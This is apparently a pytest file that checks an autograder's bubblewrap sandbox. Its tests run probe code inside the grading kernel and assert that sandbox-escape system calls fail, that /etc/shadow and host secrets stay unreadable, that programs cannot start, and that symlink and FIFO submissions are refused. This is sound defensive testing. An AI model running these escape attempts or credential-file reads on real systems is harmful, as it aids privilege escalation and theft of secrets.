"""The grading sandbox holds against hostile code, even when the grader runs as root (as CI does).

Probes run exactly where the grader runs a kernel: forked by the grading zygote (in the
sandbox ``bubblewrap_command`` builds), with the probe's code instead of ipykernel. A batch then grades an honest
student with hostile ones through the real ``grade()``: every attack fails, the honest
student keeps full marks, and nothing outside the graded output changes, content or mode.
"""

import csv
import errno
import html
import json
import os
import re
import resource
import runpy
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import nbformat
import pytest

from conftest import CHECKOUT, FIXTURE_LIBRARY, GRADER, LIBRARY_PACKAGE, _command_line, descendants, fixture_course, sandboxes_left, tree_state

from course_grader.intake_rules import ImportRules
from course_grader.trusted.judging.kernel_imports import import_rules, library_modules
from course_grader.trusted.judging.checks.second_calls import SECOND_CALL
from course_grader.trusted.outputs import feedback
from course_grader.trusted.course import files
from course_grader.trusted.running import kernel_pool, sandbox
from course_grader.trusted.course.course import Course, CourseError
from course_grader.trusted.course.example_class import build_example_class, copy_course
from course_grader.trusted.pipeline import grade
from course_grader.trusted.gradebook.writer_lock import LOCK_FILE
from course_grader.trusted.gradebook.outcome import Isolation
from course_grader.trusted.course.secret import load_or_create_secret

#: One of the longest files: its unit of work (``FileOrGroupScheduling``) starts first.
pytestmark = pytest.mark.xdist_group("test_sandbox")

COURSE_ROOT = fixture_course()  # the grader's own course, released: its term names the library, its checks grant names
FIXTURES = Path(__file__).resolve().parent / "fixtures" / "sandbox_class"
#: Hand-ins that forge points (a README there says what each attempts), graded in the same batch.
FORGED_POINTS_CLASS = Path(__file__).resolve().parent / "fixtures" / "attacks_forged_points"
#: Hand-ins that attack the second call, the review of held modules and the digest (its README), in the same batch.
SECOND_CALL_AND_DIGEST_CLASS = Path(__file__).resolve().parent / "fixtures" / "attacks_second_call_and_digest"
#: Forgers of the second call's answer (``attacks_forged_second_call/README.md``), in the same batch.
FORGED_SECOND_CALL_CLASS = Path(__file__).resolve().parent / "fixtures" / "attacks_forged_second_call"
REAL_PACKAGE = FIXTURE_LIBRARY / LIBRARY_PACKAGE


def rules(assignment: str) -> ImportRules:
    """What ``assignment``'s grading kernel may import of the fixture course's library."""
    return import_rules(COURSE_ROOT, assignment)


ISOLATION = Isolation(sandbox=True, memory_mb=sandbox.DEFAULT_MEMORY_MB, note="")
TA_TOKEN = "ta-token-5f2b9c0e71d64a3c"  # a secret the TA's environment holds while grading
#: What grading writes in the course: its output, and the course lock it holds while it runs (writer_lock).
GRADER_OUTPUT = ("autograded", "feedback", "gradebook.db", "grades.csv", "grades_by_student.csv", "canvas_grades.csv", "reports",
                 LOCK_FILE)


@pytest.fixture(scope="module", autouse=True)
def sandbox_available():
    assert sandbox.sandbox_problem() == "", f"these tests need the grading sandbox: {sandbox.sandbox_problem()}"


def run_probe(code: str, tmp_path: Path, assignment: str = "01_geometry", env: dict | None = None):
    """Run ``code`` where a grading kernel of ``assignment`` runs (forked by the zygote); return a completed process.

    ``env``: the grader's environment while its zygote starts (a fresh zygote is started with it).
    """
    if env is not None:
        kernel_pool.close_zygotes()
        saved = dict(os.environ)
        os.environ.clear()
        os.environ.update(env)
    try:
        zygote = kernel_pool.zygote_for_this_thread()
    finally:
        if env is not None:
            os.environ.clear()
            os.environ.update(saved)
    folder = zygote.kernel_folder()
    (folder / sandbox.SOCKETS_FOLDER).mkdir(mode=0o1733)  # as the grader makes it: the kernel's user may add to it
    (folder / sandbox.SOCKETS_FOLDER).chmod(0o1733)
    connection_file = folder / "kernel-probe.json"
    connection_file.write_text("{}")
    kernel = zygote.spawn(folder, connection_file, rules(assignment), ISOLATION.memory_mb, probe_code=textwrap.dedent(code))
    kernel.wait(120)
    output = {name: (folder / name).read_text(errors="replace") if (folder / name).exists() else ""
              for name in ("output", "errors", "keeper-error")}
    left = {path.name: path.lstat().st_uid for path in (folder / sandbox.SOCKETS_FOLDER).iterdir()}
    subprocess.run(["rm", "-rf", "--", str(folder)], check=False)
    result = subprocess.CompletedProcess([], kernel.returncode, output["output"], output["errors"] + output["keeper-error"])
    result.left_owners = left  # who owns, on the host, what the probe left in its sockets folder
    return result


def probe_json(code: str, tmp_path: Path, **kwargs):
    """Run a probe whose last line of stdout is JSON; return it parsed."""
    result = run_probe(code, tmp_path, **kwargs)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_the_sandbox_starts_with_umask_022_whatever_the_graders(tmp_path):
    # The TA's commands run with umask 077; bubblewrap makes the sandbox's mount points with the umask it gets, so a
    # zygote started with 077 left the folders on the way to a bound .venv (one under /tmp, say) closed to the
    # kernels' user, and every kernel "did not open its sockets".
    before = os.umask(0o077)
    kernel_pool.close_zygotes()
    try:
        seen = probe_json("""
            import json, os, sys
            from pathlib import Path
            fields = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
            closed = [str(folder) for folder in Path(sys.executable).parents if not os.stat(folder).st_mode & 0o001]
            print(json.dumps({"umask": fields["Umask"].strip(), "closed": closed}))
        """, tmp_path)
    finally:
        os.umask(before)
        kernel_pool.close_zygotes()  # the tests after this one start a zygote with their own umask
    assert seen == {"umask": "0022", "closed": []}


def test_the_kernel_is_unprivileged(tmp_path):
    status = probe_json("""
        import json, os
        fields = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
        print(json.dumps({"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(),
                          **{key: fields[key].strip() for key in ("CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp")}}))
    """, tmp_path)
    assert status["uid"] == status["euid"] == status["gid"] == 1000
    assert int(status["CapEff"], 16) == int(status["CapPrm"], 16) == int(status["CapBnd"], 16) == 0
    assert status["NoNewPrivs"] == "1" and status["Seccomp"] == "2"


ESCAPES = {
    "umount /usr": "libc.umount2(b'/usr', 2)",
    "remount / read-write": "libc.mount(None, b'/', None, 32 | 4096, None)",
    "mount a tmpfs": "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)",
    "chroot": "libc.chroot(b'/tmp')",
    "pivot_root": "libc.syscall(155, b'/tmp', b'/tmp')",
    "unshare a user namespace": "libc.unshare(0x10000000)",
    "unshare a mount namespace": "libc.unshare(0x00020000)",
    "ptrace pid 1": "libc.ptrace(16, 1, None, None)",
    "setns": "libc.setns(0, 0)",
    "bpf": "libc.syscall(321, 0, None, 0)",
    "io_uring_setup": "libc.syscall(425, 1, None)",
    "keyctl": "libc.syscall(250, 0, 0, 0, 0, 0)",
    "io_setup (Linux AIO)": "libc.syscall(206, 1, ctypes.byref(ctypes.c_ulong(0)))",
    "io_submit (Linux AIO)": "libc.syscall(209, 0, 0, None)",
    "mq_open": "libc.syscall(240, b'q', 64, 0o600, None)",
    "fanotify_init": "libc.syscall(300, 0, 0)",
    "inotify_init1": "libc.syscall(294, 0)",
    "a vsock socket": "libc.socket(40, 1, 0)",
}


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="raw system call numbers are those of x86_64")
def test_every_escape_system_call_fails(tmp_path):
    calls = ", ".join(f"{name!r}: lambda: {call}" for name, call in ESCAPES.items())
    outcomes = probe_json(f"""
        import ctypes, json
        libc = ctypes.CDLL(None, use_errno=True)
        results = {{}}
        for name, call in {{{calls}}}.items():
            value = call()
            results[name] = [value, ctypes.get_errno()]
        print(json.dumps(results))
    """, tmp_path)
    for name, (value, error) in outcomes.items():
        assert value == -1 and error in (errno.EPERM, errno.EACCES), (name, value, errno.errorcode.get(error))


def test_the_kernel_cannot_start_any_program(tmp_path):
    outcomes = probe_json("""
        import json, os, subprocess, sys
        attempts = {
            "os.execv": lambda: os.execv("/usr/bin/true", ["true"]),
            "subprocess": lambda: subprocess.run(["/usr/bin/true"]),
            "posix_spawn": lambda: os.waitpid(os.posix_spawn("/usr/bin/true", ["true"], {}), 0),
            "a shell": lambda: subprocess.run("true", shell=True),
            "python again": lambda: subprocess.run([sys.executable, "-c", "pass"]),
        }
        results = {}
        for name, attempt in attempts.items():
            try:
                attempt()
                results[name] = "ran"
            except OSError as error:
                results[name] = error.errno
        print(json.dumps(results))
    """, tmp_path)
    assert outcomes == dict.fromkeys(["os.execv", "subprocess", "posix_spawn", "a shell", "python again"], errno.EPERM)


def test_plots_and_the_kernel_need_no_program(tmp_path):
    result = run_probe("""
        import io
        import matplotlib
        matplotlib.use("agg")
        import matplotlib.pyplot as plt
        from matplotlib import font_manager
        figure, axes = plt.subplots()
        axes.plot([0, 1], [1, 0], label="a line")
        axes.legend()
        buffer = io.BytesIO()
        figure.savefig(buffer, format="png")
        from ipykernel.kernelapp import IPKernelApp
        from matplotlib_inline.backend_inline import show
        print("PLOTTED", buffer.getvalue()[:4] == b"\\x89PNG", len(font_manager.fontManager.ttflist) > 0)
    """, tmp_path)
    assert result.returncode == 0 and "PLOTTED True True" in result.stdout, result.stderr[-2000:]


def test_no_network_not_even_loopback_and_no_host_socket(tmp_path):
    listener = socket.socket(socket.AF_UNIX)
    host_socket = Path("/tmp") / f"perceptron-sandbox-test-{os.getpid()}.sock"
    listener.bind(str(host_socket))
    listener.listen()
    tcp = socket.create_server(("127.0.0.1", 0))
    try:
        reached = probe_json(f"""
            import json, socket
            reached = {{}}
            for name, family, address in [("tcp", socket.AF_INET, ("127.0.0.1", {tcp.getsockname()[1]})),
                                          ("unix", socket.AF_UNIX, "{host_socket}")]:
                client = socket.socket(family)
                client.settimeout(2)
                try:
                    client.connect(address)
                    reached[name] = "connected"
                except OSError as error:
                    reached[name] = type(error).__name__
            print(json.dumps(reached))
        """, tmp_path)
    finally:
        listener.close()
        tcp.close()
        host_socket.unlink()
    assert reached == {"tcp": reached["tcp"], "unix": "FileNotFoundError"} and reached["tcp"] != "connected"


def test_the_file_system_is_an_allowlist(tmp_path):
    secret_file = tmp_path / "host-secret.txt"
    secret_file.write_text("host")
    seen = probe_json(f"""
        import json, os
        reference_markers = {{"def signed_distance(", "def point_margins(", "check_augment(", "check_signed_distance("}}
        module_names = {{"geometry.py", "perceptron.py", "theory.py", "variants.py", "multiclass.py", "estimator.py"}}
        found = []
        for root, folders, names in os.walk("/"):
            if root in ("/proc", "/sys", "/dev"):
                folders[:] = []
                continue
            for name in names:
                if name in module_names or name.endswith(".ipynb") or "perceptron" in root:
                    try:
                        text = open(os.path.join(root, name), errors="replace").read()
                    except OSError:
                        continue
                    if any(marker in text for marker in reference_markers):
                        found.append(os.path.join(root, name))
        paths = {{path: os.path.exists(path) for path in
                 ["{COURSE_ROOT / 'source'}", "{REAL_PACKAGE / 'perceptron.py'}", "{GRADER / 'course_grader' / 'trusted'}",
                  "{secret_file}", "/home", "/srv", "/root/.bash_history", "/etc/passwd",
                  "/etc/shadow", "/var"]}}
        course = "{CHECKOUT}"
        run = {{folder: sorted(os.listdir(os.path.join("/run", folder))) for folder in os.listdir("/run")}}
        print(json.dumps({{"top": sorted(os.listdir("/")), "found": found, "exists": paths, "run": run,
                          "course": sorted(os.listdir(course)) if os.path.isdir(course) else []}}))
    """, tmp_path)
    assert set(seen["course"]) <= {".venv"}, "of the course folder, only its virtual environment may show"
    assert set(seen["top"]) <= {"bin", "sbin", "lib", "lib32", "lib64", "libx32", "usr", "etc", "dev", "proc", "tmp",
                                "opt", "run", *{Path(p).parts[1] for p in (sys.prefix, sys.base_prefix)}}
    # /run: the kernel's own connection file and sockets; the zygote's roots of every kernel and view, covered
    assert seen["run"] == {"kernel": ["connection.json", "sockets"], "kernels": [], "views": []}
    assert seen["found"] == [], "reference code or notebooks readable inside the sandbox"
    assert not any(seen["exists"].values()), seen["exists"]


def test_writes_only_into_the_capped_scratch(tmp_path):
    outcomes = probe_json("""
        import json, os
        def attempt(path, mib):
            try:
                with open(path, "wb") as handle:
                    for _ in range(mib):
                        handle.write(b"x" * (1 << 20))
                        handle.flush()
                return "wrote"
            except OSError as error:
                return os.strerror(error.errno)
            finally:
                if os.path.exists(path) and path.startswith("/tmp"):
                    os.remove(path)
        results = {"usr": attempt("/usr/owned", 1), "root": attempt("/owned", 1), "venv": attempt(os.__file__ + ".owned", 1),
                   "small": attempt("/tmp/small", 1), "huge file": attempt("/tmp/huge", 48)}
        names = [f"/tmp/fill-{k}" for k in range(32)]
        results["fill"] = "wrote"
        for name in names:
            try:
                with open(name, "wb") as handle:
                    handle.write(b"x" * (8 << 20))
            except OSError as error:
                results["fill"] = os.strerror(error.errno)
                break
        for name in names:
            if os.path.exists(name):
                os.remove(name)
        print(json.dumps(results))
    """, tmp_path)
    assert outcomes["small"] == "wrote"
    assert outcomes["usr"] == outcomes["root"] == outcomes["venv"] == os.strerror(errno.EROFS)
    assert outcomes["huge file"] == os.strerror(errno.EFBIG)  # RLIMIT_FSIZE
    assert outcomes["fill"] == os.strerror(errno.ENOSPC)  # the tmpfs --size


def test_resource_limits_are_set(tmp_path):
    limits = probe_json("""
        import json, resource
        print(json.dumps({name: resource.getrlimit(getattr(resource, name))
                          for name in ("RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_CORE")}))
    """, tmp_path)
    mib = 1024 * 1024
    assert limits == {"RLIMIT_AS": [sandbox.DEFAULT_MEMORY_MB * mib] * 2, "RLIMIT_FSIZE": [sandbox.MAX_FILE_MB * mib] * 2,
                      "RLIMIT_NPROC": [sandbox.MAX_PROCESSES] * 2, "RLIMIT_CORE": [0, 0]}


def test_the_environment_is_cleared(tmp_path):
    environment = probe_json("import json, os; print(json.dumps(dict(os.environ)))", tmp_path,
                             env={**os.environ, "PERCEPTRON_TA_TOKEN": TA_TOKEN})
    assert TA_TOKEN not in json.dumps(environment)
    assert set(environment) <= set(sandbox._environment()) | {"PWD", "KMP_DUPLICATE_LIB_OK", "KMP_INIT_AT_FORK"}
    assert environment["HOME"] == "/tmp" and environment["MPLBACKEND"] == "Agg"


IMPORTS = """
    import json
    results = {}
    for module in ("perceptron_fixture.geometry", "perceptron_fixture.perceptron", "perceptron_fixture.theory",
                   "perceptron_fixture.variants", "perceptron_fixture.multiclass", "perceptron_fixture.estimator",
                   "perceptron_fixture.svm", "perceptron_fixture.losses", "perceptron_fixture.mlp", "course_grader.selfcheck",
                   "course_grader.intake_rules",
                   "course_grader.trusted", "sklearn.linear_model"):
        try:
            __import__(module)
            results[module] = "imported"
        except ImportError as error:
            results[module] = str(error)
    import perceptron_fixture, perceptron_fixture.datasets, perceptron_fixture.plotting
    results["file"] = perceptron_fixture.__file__
    results["iris"] = list(perceptron_fixture.datasets.iris_binary()[0].shape)
    try:
        from perceptron_fixture.theory import max_margin
        results["max_margin"] = max_margin([[1.0, 0.0], [-1.0, 0.0]], [1, -1])[1]
    except ImportError as error:
        results["max_margin"] = str(error)
    print(json.dumps(results))
"""


def test_no_answer_key_in_the_kernel(tmp_path):
    results = probe_json(IMPORTS, tmp_path)
    graded = set(library_modules(LIBRARY_PACKAGE)) - rules("01_geometry").student_modules
    assert {"geometry", "perceptron", "theory", "variants", "multiclass", "estimator", "svm", "losses", "mlp"} <= graded
    for module in graded:
        assert results[f"perceptron_fixture.{module}"] == (f"perceptron_fixture.{module} is not available while grading: "
                                                          "implement it yourself")
    names = probe_json("import json, course_grader.selfcheck as s; print(json.dumps(sorted(n for n in dir(s) "
                       "if not n.startswith('__'))))", tmp_path)
    assert names == ["check_all"]  # the stub holds nothing else of the self-check (which reads the course's files)
    assert results["sklearn.linear_model"] == "sklearn.linear_model is not available while grading: implement it yourself"
    assert "No module named" in results["course_grader.trusted"]
    assert results["file"].startswith(sandbox.VIEW_MOUNT)
    assert results["iris"][0] == 100  # the data sets still work (scikit-learn's bundled iris)
    assert "not available while grading" in str(results["max_margin"])


def test_convergence_may_use_max_margin_and_nothing_else(tmp_path):
    results = probe_json(IMPORTS, tmp_path, assignment="04_convergence")
    assert results["max_margin"] == pytest.approx(1.0)
    assert results["perceptron_fixture.theory"] == "imported"
    assert results["perceptron_fixture.perceptron"].endswith("not available while grading: implement it yourself")
    names = probe_json("import json, perceptron_fixture.theory as t; print(json.dumps(sorted(n for n in dir(t) "
                       "if not n.startswith('__'))))", tmp_path, assignment="04_convergence")
    assert names == ["max_margin"]


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def _wait_until_gone(marker: str, patience: float = 120.0) -> list[int]:
    """The processes with ``marker`` left once they are gone, or once ``patience`` seconds have passed (a cap on
    waiting, not a measurement: on a loaded machine a sandbox's processes take seconds to be reaped)."""
    deadline = time.monotonic() + patience
    while _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    return _processes_with(marker)


def test_a_daemon_dies_with_the_sandbox(tmp_path):
    marker = f"probe-daemon-{os.getpid()}"
    result = run_probe(f"""
        import os, sys
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import signal, time; "
                         "signal.signal(signal.SIGHUP, signal.SIG_IGN); signal.signal(signal.SIGTERM, signal.SIG_IGN); "
                         "time.sleep(600)", "{marker}"])
            os._exit(0)
        os.wait()
        print("started")
    """, tmp_path)
    assert result.stdout.strip() == "started", result.stderr
    assert _wait_until_gone(marker) == []


# ---------------------------------------------------------------------------- the trusted side's helpers


def test_kernel_sockets_are_reached_only_through_checked_descriptors(tmp_path):
    folder = tmp_path / "sockets"
    folder.mkdir()
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / "kernel-1"))
    server.listen()
    elsewhere = socket.socket(socket.AF_UNIX)
    elsewhere.bind(str(tmp_path / "host.sock"))
    elsewhere.listen()
    try:
        descriptors = sandbox.open_kernel_sockets(folder, "kernel", {"shell": 1}, still_running=lambda: True, wait=1)
        os.replace(folder / "kernel-1", folder / "moved")  # the kernel swaps its socket for a link elsewhere
        (folder / "kernel-1").symlink_to(tmp_path / "host.sock")
        client = socket.socket(socket.AF_UNIX)
        client.connect(f"/proc/{os.getpid()}/fd/{descriptors['shell']}")
        accepted, _ = server.accept()  # the original socket got the connection
        accepted.close()
        client.close()
        os.close(descriptors["shell"])
        with pytest.raises(sandbox.UnsafeSocketError, match="not a socket"):
            sandbox.open_kernel_sockets(folder, "kernel", {"shell": 1}, still_running=lambda: True, wait=1)
    finally:
        server.close()
        elsewhere.close()


def test_the_kernel_manager_connects_through_descriptors(tmp_path):
    manager = sandbox.SandboxKernelManager(connection_file=str(tmp_path / "kernel-x.json"))
    folder = tmp_path / sandbox.SOCKETS_FOLDER
    folder.mkdir()
    servers = []
    for port, channel in enumerate(sandbox.CHANNELS, start=1):
        setattr(manager, f"{channel}_port", port)
        servers.append(socket.socket(socket.AF_UNIX))
        servers[-1].bind(str(folder / f"kernel-{port}"))
    try:
        client = manager.client()
        urls = {channel: client._make_url(channel) for channel in sandbox.CHANNELS}
        assert all(url.startswith(f"ipc:///proc/{os.getpid()}/fd/") for url in urls.values()), urls
        assert manager._make_url("control") == urls["control"]
    finally:
        manager._close_socket_fds()
        for server in servers:
            server.close()


def test_a_kernel_started_early_is_the_one_the_notebook_runs_in_or_is_shut_down():
    from nbformat.v4 import new_code_cell, new_notebook

    from course_grader.trusted.running import executor

    class Recording(executor.ResilientExecute):
        def create_kernel_manager(self):
            self.created = super().create_kernel_manager()
            return self.created

    notebook = new_notebook(cells=[new_code_cell("print(6 * 7)")])
    with kernel_pool.private_runtime_dir(ISOLATION) as runtime, kernel_pool.grading_kernel(ISOLATION, runtime, rules("01_geometry")) as config:
        with executor.kernel_started_early(config):
            [started] = executor._STARTED_EARLY.values()
            process = started.provisioner.process
            execute = Recording(config=config, grading_secret="00" * 16)
            execute.preprocess(notebook, {"nbgrader": {"student": "someone"}})
            assert execute.created is started and executor._STARTED_EARLY == {}
            assert process.poll() is not None  # nbclient shut it down after the notebook
        assert notebook.cells[0].outputs[0].text == "42\n"
        with executor.kernel_started_early(config):  # no notebook takes this one
            [unused] = executor._STARTED_EARLY.values()
            process = unused.provisioner.process
            assert process.poll() is None
        assert process.poll() is not None and executor._STARTED_EARLY == {}


def test_a_grading_kernel_shows_each_cells_own_lines_and_runs_the_graders_cells_as_plain_python():
    from nbformat.v4 import new_code_cell, new_notebook

    from course_grader.in_sandbox.kernel import HARNESS_CELL_START
    from course_grader.trusted.running import executor

    cells = ["def radius(X):\n    raise ValueError('raised in the cell that defines radius')",
             "def margin(w):\n    return radius(w)",
             "margin(1)",  # the traceback quotes both earlier cells, each from its own code
             "here = %pwd\nprint(here)",
             HARNESS_CELL_START + "    pass\nhere = %pwd",  # the grader's cells are not transformed: no magic
             "import asyncio\nawait asyncio.sleep(0)\nprint('awaited')",
             HARNESS_CELL_START + "    pass\nimport asyncio\nawait asyncio.sleep(0)"]  # nor run as coroutines
    notebook = new_notebook(cells=[new_code_cell(source) for source in cells])
    with kernel_pool.private_runtime_dir(ISOLATION) as runtime, kernel_pool.grading_kernel(ISOLATION, runtime, rules("01_geometry")) as config:
        executor.ResilientExecute(config=config, grading_secret="00" * 16).preprocess(notebook, {"nbgrader": {"student": "s"}})
    [error] = notebook.cells[2].outputs
    traceback = re.sub(r"\x1b\[[0-9;]*m", "", "\n".join(error.traceback))  # without its colours
    assert "raise ValueError('raised in the cell that defines radius')" in traceback and "return radius(w)" in traceback
    assert notebook.cells[3].outputs[0].text.strip().startswith("/")
    assert notebook.cells[4].outputs[0].ename == "SyntaxError"
    assert notebook.cells[5].outputs[0].text == "awaited\n"
    assert "needs a real async loop" in notebook.cells[6].outputs[0].evalue  # IPython's words: not run as a coroutine


def test_the_kernel_cannot_reopen_its_sockets_folder_on_the_host():
    from nbformat.v4 import new_code_cell, new_notebook

    from course_grader.trusted.running import executor

    probe = ("import json, os\nfrom ipykernel import get_connection_file\n"
             "folder = os.path.dirname(json.load(open(get_connection_file()))['ip'])\n"
             "for attempt in (lambda: os.chmod(folder, 0o700), lambda: open(os.path.join(folder, 'fill'), 'w'),\n"
             "                lambda: os.mkdir(os.path.join(folder, 'deep'))):\n"
             "    try:\n        attempt(); print('ALLOWED')\n"
             "    except OSError as error:\n        print('refused', error.errno)\n")
    notebook = new_notebook(cells=[new_code_cell(probe)])
    with kernel_pool.private_runtime_dir(ISOLATION) as runtime, kernel_pool.grading_kernel(ISOLATION, runtime, rules("01_geometry")) as config:
        executor.ResilientExecute(config=config, grading_secret="00" * 16).preprocess(notebook, {})
        left = sorted(path.name for path in (runtime / sandbox.SOCKETS_FOLDER).iterdir())
    printed = notebook.cells[0].outputs[0].text
    assert printed.count("refused") == 3 and "ALLOWED" not in printed, printed
    assert all(name.startswith("kernel-") for name in left), left


def test_a_kernel_that_cannot_start_early_leaves_the_notebook_to_start_its_own(monkeypatch):
    from nbformat.v4 import new_code_cell, new_notebook

    from course_grader.trusted.running import executor

    def refuse(manager, **kwargs):
        raise OSError("no kernel now")

    monkeypatch.setattr(sandbox.SandboxKernelManager, "start_in_background", refuse)
    notebook = new_notebook(cells=[new_code_cell("print(6 * 7)")])
    with kernel_pool.private_runtime_dir(ISOLATION) as runtime, kernel_pool.grading_kernel(ISOLATION, runtime, rules("01_geometry")) as config:
        with executor.kernel_started_early(config):
            assert executor._STARTED_EARLY == {}
            executor.ResilientExecute(config=config, grading_secret="00" * 16).preprocess(notebook, {})
    assert notebook.cells[0].outputs[0].text == "42\n"


def _throttled_periods(groups: list[Path]) -> int:
    """How many CPU periods the kernel held the groups' processes to their quota (``nr_throttled`` of ``cpu.stat``)."""
    return max([int(line.split()[1]) for group in groups if (group / "cpu.stat").exists()
                for line in (group / "cpu.stat").read_text().splitlines() if line.startswith("nr_throttled ")], default=0)


#: A cap on waiting for the kernel's own counter, not a measurement: on an idle machine it moves within 0.1 s.
THROTTLE_PATIENCE_SECONDS = 300


def test_each_sandbox_is_held_to_its_tasks_and_one_core():
    spin = [sys.executable, "-c", "import os\nfor _ in range(4): os.fork()\nwhile True: pass"]  # 16 busy processes
    with sandbox.sandbox_cgroups() as procs:
        assert procs, "as root, grading makes cgroups for each sandbox"
        groups = [path.parent for path in procs]
        limits = {file: (group / file).read_text().split() for group in groups for file in
                  ("pids.max", "cpu.cfs_quota_us", "cpu.cfs_period_us", "cpu.max", "memory.limit_in_bytes", "memory.max")
                  if (group / file).exists()}
        assert limits["pids.max"] == [str(sandbox.MAX_TASKS)]
        memory = limits.get("memory.limit_in_bytes") or limits.get("memory.max")
        if memory is not None or Path("/sys/fs/cgroup/memory/cgroup.procs").is_file():  # where the controller is
            assert memory == [str(sandbox.MAX_SANDBOX_MEMORY_BYTES)], limits
        quota, period = limits.get("cpu.max") or limits["cpu.cfs_quota_us"] + limits["cpu.cfs_period_us"]
        assert int(quota) == int(period) * sandbox.MAX_CORES
        assert _throttled_periods(groups) == 0
        spinning = subprocess.Popen(sandbox.detached(spin, procs))
        try:
            # No timing assumption: the kernel itself counts the periods in which it held the group to its
            # quota; however busy the machine, sixteen spinners get more than one core's worth in some period.
            deadline = time.monotonic() + THROTTLE_PATIENCE_SECONDS
            while _throttled_periods(groups) == 0 and time.monotonic() < deadline and spinning.poll() is None:
                time.sleep(0.2)
            assert all(str(spinning.pid) in (group / "cgroup.procs").read_text().split() for group in groups)
            assert _throttled_periods(groups) > 0  # busy processes wanted more than the quota, and were held
        finally:
            spinning.kill()
            spinning.wait()
    assert not any(group.exists() for group in groups)  # the forked spinners were killed with their groups


def test_grading_without_a_sandbox_is_refused_for_root_and_for_anyone_else_unless_asked_for_plainly(monkeypatch, capsys):
    # Attack round 12 (item 9): a TA who is not root and has no user namespaces (a Kubernetes hub's pod) graded
    # student code with their own rights after a warning only. Now only the plainly named opt-in runs it.
    from course_grader.trusted.cli import build_parser

    monkeypatch.setenv(sandbox.SANDBOX_VARIABLE, "off")  # turning it off is not enough, for anyone
    for uid, who in ((0, "as root"), (1000, r"with your own rights \(your files, the course secret, the gradebook\)")):
        monkeypatch.setattr(sandbox.os, "geteuid", lambda uid=uid: uid)
        with pytest.raises(CourseError, match=f"refusing to run student code {who} without a sandbox") as refused:
            sandbox.choose_isolation()
        assert "docs/hosting.md" in str(refused.value) and "--unsafe-no-sandbox" in str(refused.value)
        assert "user namespaces" in str(refused.value)
        isolation = sandbox.choose_isolation(unsandboxed=True)
        assert not isolation.sandbox and "WARNING (--unsafe-no-sandbox)" in capsys.readouterr().err
    for command in (["grade"], ["explain", "ada", "01_geometry"]):
        assert build_parser().parse_args([*command, "--unsafe-no-sandbox"]).unsandboxed
        assert not build_parser().parse_args(command).unsandboxed


def test_intake_refuses_links_special_files_and_huge_notebooks(tmp_path):
    folder = tmp_path / "submitted" / "eve" / "01"
    folder.mkdir(parents=True)
    outside = tmp_path / "outside.ipynb"
    outside.write_text("{}")
    (folder / "link.ipynb").symlink_to(outside)
    os.link(outside, folder / "hard.ipynb")
    os.mkfifo(folder / "pipe.ipynb")
    (folder / "huge.ipynb").write_bytes(b" " * (files.MAX_NOTEBOOK_BYTES + 1))
    problems = files.folder_problems(folder, within=tmp_path)
    assert sorted(problems) == ["hard.ipynb is a hard link (2 names for one file)", "link.ipynb is a symbolic link",
                                "pipe.ipynb is a FIFO"]
    for name, message in [("link.ipynb", "without following a link"), ("hard.ipynb", "hard link"),
                          ("pipe.ipynb", "FIFO"), ("huge.ipynb", "larger than the grader reads")]:
        with pytest.raises(files.UnsafeFileError, match=message):
            files.read_capped(folder / name)
    assert files.name_problem("..", "student") and files.name_problem("a/b", "student")
    assert files.name_problem("ada.lovelace", "student") == ""


def test_merge_never_writes_through_a_link(tmp_path):
    course, target = tmp_path / "course", tmp_path / "target"
    (course / "feedback").mkdir(parents=True)
    target.mkdir()
    (course / "feedback" / "eve").symlink_to(target)
    source = tmp_path / "area" / "feedback" / "eve" / "01"
    source.mkdir(parents=True)
    (source / "page.html").write_text("feedback")
    with pytest.raises(files.UnsafeFileError):
        files.replace_tree(source, course, Path("feedback") / "eve" / "01")
    assert list(target.iterdir()) == []
    (course / "feedback" / "eve").unlink()
    files.replace_tree(tmp_path / "nothing", course, Path("feedback") / "eve" / "01")
    assert not (course / "feedback" / "eve").exists()  # no output: no folder made for it
    files.replace_tree(source, course, Path("feedback") / "eve" / "01")
    copied = course / "feedback" / "eve" / "01" / "page.html"
    assert copied.read_text() == "feedback" and stat.S_IMODE(copied.stat().st_mode) == 0o644


# ---------------------------------------------------------------------------- a hostile batch, graded for real


def _make_file_attacks(course) -> dict[str, str]:
    """Submissions that attack the intake; returns what ``grades.csv`` must say for each."""
    solved = course.submitted / "honest" / "01_geometry" / "geometry.ipynb"
    instructor = course.source / "01_geometry" / "geometry.ipynb"
    attacks = {}
    for student in ("symlinked", "hardlinked", "fifo", "huge", "folder_link"):
        if student != "folder_link":
            (course.submitted / student / "01_geometry").mkdir(parents=True)
    (course.submitted / "symlinked" / "01_geometry" / "geometry.ipynb").symlink_to("../../../source/01_geometry/geometry.ipynb")
    attacks["symlinked"] = "geometry.ipynb is a symbolic link"
    os.link(instructor, course.submitted / "hardlinked" / "01_geometry" / "geometry.ipynb")
    attacks["hardlinked"] = "geometry.ipynb is a hard link"
    os.mkfifo(course.submitted / "fifo" / "01_geometry" / "geometry.ipynb")
    attacks["fifo"] = "geometry.ipynb is a FIFO"
    notebook = nbformat.read(solved, as_version=4)
    notebook.cells.append(nbformat.v4.new_markdown_cell("x" * (6 * 1024 * 1024)))
    nbformat.write(notebook, course.submitted / "huge" / "01_geometry" / "geometry.ipynb")
    attacks["huge"] = "larger than the grader reads (5 MiB)"
    (course.submitted / "folder_link").mkdir()
    (course.submitted / "folder_link" / "01_geometry").symlink_to("../../source/01_geometry")
    attacks["folder_link"] = "is not a real folder"
    return attacks


#: Submission folders whose names attack what the TA opens: a spreadsheet, the terminal; one is not UTF-8.
NAME_ATTACKS = {
